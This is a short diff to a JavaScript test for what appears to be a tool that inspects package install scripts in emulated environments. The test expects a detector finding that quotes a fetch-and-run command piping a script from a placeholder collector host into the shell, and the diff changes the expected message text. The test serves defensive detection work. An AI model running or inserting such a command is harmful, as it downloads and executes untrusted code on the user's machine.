@@ -63,7 +63,7 @@ describe("inspect, with an emulator", { timeout }, () => {
     const finding = inspection.findings.find(({ id }) => id === "download-executed");
     expect(finding).toMatchObject({ strength: "decisive", location: { file: "setup.js", line: 6 } });
     expect(finding?.message).toContain("curl -s http://collector.example/stage | sh");
-    expect(finding?.message).toContain("on linux-laptop");
+    expect(finding?.message).toContain("(postinstall), in all 3 worlds");
   });
 
   test("says what ran, in which worlds and how far, of a script that is let in", async () => {
